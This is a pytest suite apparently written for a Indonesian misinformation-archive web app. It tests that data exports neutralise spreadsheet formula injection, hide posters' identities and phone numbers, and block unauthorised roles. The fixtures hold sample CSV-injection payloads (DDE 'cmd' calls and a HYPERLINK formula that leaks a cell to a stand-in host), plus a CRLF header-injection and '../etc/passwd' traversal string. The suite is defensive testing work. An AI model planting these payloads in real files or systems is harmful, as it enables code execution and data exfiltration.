"""Exports of hostile and of protected texts: nothing runs, the press is not stamped, nobody is listed."""

import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kentongan.domain import Label, Role
from kentongan.pseudonym import pseudonym
from pipeline.tables.cells import is_formula
from tests.exported import cells_of_semicolons, read_csv
from tests.web_city import NOW, Seen, Site

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://jahat.example/?"&A1,"klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    'Warga bilang;=1+1\n@SUM(A1)\n"=2+2',
)
HOSTILE = [
    Seen("kanal-warga", f"{payload} kabar {n} tentang pasar", title=payload, url=f"https://a.example/{n}")
    for n, payload in enumerate(PAYLOADS)
]
PRESS = Seen(
    "warta",
    "Kotak suara di gudang kecamatan disebut dibuka.",
    title="Kotak Suara Dibuka",
    labels=(Label.HOAX,),
)
NOBODY = pseudonym("warga", "a key of the tests, long enough for anyone", NOW)
POSTER = Seen(
    "kanal-ibu", "Kata tetangga pasar ditutup.", author=NOBODY, labels=(Label.HOAX,),
    url="https://wa.me/6281234567890?text=halo",
)  # fmt: skip


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    site = Site(tmp_path_factory.mktemp("hostile")).fill([*HOSTILE, PRESS, POSTER])
    site.add_people(*Role)
    site.close()
    return site.home


@pytest.fixture
def site(home: Path, tmp_path: Path) -> Iterator[Site]:
    site = Site(Path(shutil.copytree(home, tmp_path / "home")))
    yield site
    site.close()


def exported(site: Site, form: str, query: str = "") -> bytes:
    answer = site.client(Role.ANALYST).get(f"/archive/export?format={form}&kind=all&{query}")
    assert answer.status_code == 200
    return bytes(answer.data)


def test_no_payload_runs_in_any_reading_of_the_csv(site: Site) -> None:
    raw = exported(site, "csv")
    cells = [cell for row in read_csv(raw) for cell in row.values()]
    assert sum("kabar" in cell for cell in cells) == len(PAYLOADS)
    assert not [cell for cell in cells if is_formula(cell)]
    assert not [cell for cell in cells_of_semicolons(raw) if is_formula(cell)]


def test_no_payload_is_a_formula_in_the_excel_file(site: Site) -> None:
    raw = exported(site, "xlsx")
    cells = [cell for sheet in load_workbook(BytesIO(raw)) for row in sheet.iter_rows() for cell in row]
    assert sum(str(cell.value).startswith("=") for cell in cells) == 4  # there, as text
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    book = zipfile.ZipFile(BytesIO(raw))
    assert not any(b"<f>" in book.read(name) or b"<f " in book.read(name) for name in book.namelist())
    assert not any("hyperlink" in book.read(name).decode("utf-8", "replace") for name in book.namelist()
                   if name.endswith(".rels"))  # fmt: skip


def test_a_query_that_is_a_formula_runs_nowhere(site: Site) -> None:
    raw = exported(site, "csv", "q=%3D1%2B1%0A%3Dcmd")
    assert not [cell for cell in cells_of_semicolons(raw) if is_formula(cell)]


def test_the_press_bears_no_label_and_no_model_in_any_form(site: Site) -> None:
    (row,) = (row for row in read_csv(exported(site, "csv")) if row["source"] == "warta")
    assert (row["source_kind"], row["labels"], row["model"]) == ("press", "", "")
    lines = [json.loads(line) for line in exported(site, "jsonl").splitlines()]
    (line,) = (line for line in lines if line["source"] == "warta")
    assert set(line["labels"].values()) == {None}
    assert "fact_check_url" not in line
    assert "warta" not in {row["source"] for row in read_csv(exported(site, "csv", "label=hoax"))}


def test_no_poster_and_no_telephone_number_is_in_any_form(site: Site) -> None:
    for form in ("csv", "jsonl"):
        raw = exported(site, form).decode("utf-8-sig")
        assert "Kata tetangga" in raw
        assert NOBODY not in raw
        assert "81234567890" not in raw
        assert "author" not in raw
    book = load_workbook(BytesIO(exported(site, "xlsx")))
    values = [str(value) for sheet in book for row in sheet.iter_rows(values_only=True) for value in row]
    assert not any(NOBODY in value or "81234567890" in value for value in values)


@pytest.mark.parametrize("query", [f"{name}={NOBODY}" for name in ("author", "poster", "user")])
def test_an_export_cannot_be_narrowed_to_a_poster(site: Site, query: str) -> None:
    everything = {row["id"] for row in read_csv(exported(site, "csv"))}
    assert {row["id"] for row in read_csv(exported(site, "csv", query))} == everything
    typed = read_csv(exported(site, "csv", f"q=author:{NOBODY}"))
    assert [row["kind"] for row in typed] == ["whole"]


@pytest.mark.parametrize("role", [Role.LIAISON, Role.FIELD_REPORTER])
def test_who_reads_no_posts_exports_none(site: Site, role: Role) -> None:
    answer = site.client(role).get("/archive/export?format=csv")
    assert answer.status_code == 403
    assert "Kata tetangga" not in answer.text


def test_the_file_name_holds_nothing_that_was_typed(site: Site, tmp_path: Path) -> None:
    path = "/archive/export?format=csv&q=%22%0D%0ASet-Cookie:x=1;../../etc/passwd"
    answer = site.client(Role.ANALYST).get(path)
    assert re.fullmatch(
        r'attachment; filename="kentongan-arunika-[0-9a-f-]{36}\.csv"', answer.headers["Content-Disposition"]
    )
    answer.close()
